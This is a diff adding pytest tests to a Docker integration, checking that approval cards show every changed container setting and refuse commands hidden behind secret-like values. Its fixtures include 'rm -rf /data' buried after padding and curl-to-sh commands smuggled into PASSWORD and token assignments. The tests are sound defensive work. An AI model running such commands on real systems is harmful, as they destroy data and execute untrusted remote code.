@@ -6,6 +6,8 @@ from fermata.integrations.docker.blueprint import (
     describe_container,
     write_diff,
 )
+from fermata.kit.errors import UserError
+from fermata.kit.showing import refuse_lost
 
 ID = "c0ffee" * 10 + "c0de"
 OLD, NEW = "sha256:" + "1" * 64, "sha256:" + "2" * 64
@@ -150,6 +152,57 @@ def test_description_foretells_the_container():
     diff = write_diff(before, after, "x").splitlines()
     assert [line for line in diff if line[0] in "+-"][2:] == [
         *("-image: shop:2", f"-image id: {NEW}", "+image: shop:1", f"+image id: {OLD}"),
-        *("-cmd: serve", "+cmd: serve --old", "-env RELEASE=2", "+env RELEASE=1"),
+        *('-cmd: ["serve"]', '+cmd: ["serve", "--old"]', "-env RELEASE=2", "+env RELEASE=1"),
     ]
     assert "hunter2" not in "\n".join((*before, *after))
+
+
+def _show_change(before, after):
+    """Return what a card says of going from one image's settings to another's, the container having none of its own."""
+    present, previous = image(**before), image(OLD, ("shop:1",), **after)
+    one = container(before)
+    diff = write_diff(
+        describe_container(one, ["*"]), describe_blueprint(rebuild(one, present, previous), previous, ["*"]), "x"
+    )
+    return diff, [line[1:] for line in diff.split("\n") if line.startswith("+")][3:]
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "shown"),
+    [
+        ({"Cmd": ["echo step; " * 300 + "serve"]}, {"Cmd": ["echo step; " * 300 + "rm -rf /data"]}, "rm -rf /data"),
+        ({"Cmd": ["# note serve"]}, {"Cmd": ["# note\nserve"]}, "# note\\nserve"),
+        ({"Cmd": ["a  b"]}, {"Cmd": ["a b"]}, '["a b"]'),
+        ({"Cmd": ["a b"]}, {"Cmd": ["a", "b"]}, '["a", "b"]'),
+        ({}, {"Healthcheck": {"Test": ["CMD-SHELL", "touch /checked"]}}, "touch /checked"),
+        ({}, {"StopSignal": "SIGKILL"}, "SIGKILL"),
+        ({}, {"Volumes": {"/data": {}}}, "volume /data"),
+        ({}, {"ExposedPorts": {"22/tcp": {}}}, "exposed 22/tcp"),
+        ({"Env": ["A=1 2"]}, {"Env": ["A=1\u20282"]}, "A=1\\u20282"),
+    ],
+)
+def test_whatever_becomes_different_is_shown_to_its_end(before, after, shown):
+    """No two settings look the same: what is not on the card would be approved unseen."""
+    diff, added = _show_change(before, after)
+
+    refuse_lost(diff)
+    assert any(shown in line for line in added)
+
+
+@pytest.mark.parametrize("command", ["PASSWORD=`curl example.com/x|sh`", "token=abc;curl example.com/x|sh"])
+def test_command_behind_the_mark_of_a_secret_is_refused(command):
+    """More than a value would be hidden."""
+    diff, _ = _show_change({"Cmd": ["serve"]}, {"Cmd": ["sh", "-c", command]})
+
+    with pytest.raises(UserError, match="cannot be shown"):
+        refuse_lost(diff)
+
+
+def test_check_of_ones_own_takes_the_rest_from_the_image():
+    """As the engine does: what is zero is left open."""
+    one = container({"Healthcheck": {"Test": ["CMD", "own"], "Interval": 0}})
+    previous = image(OLD, ("shop:1",), Healthcheck={"Test": ["CMD", "theirs"], "Interval": 7})
+
+    lines = describe_blueprint(rebuild(one, other=previous), previous, ["*"])
+
+    assert 'health check: {"Test": ["CMD", "own"], "Interval": 7}' in lines
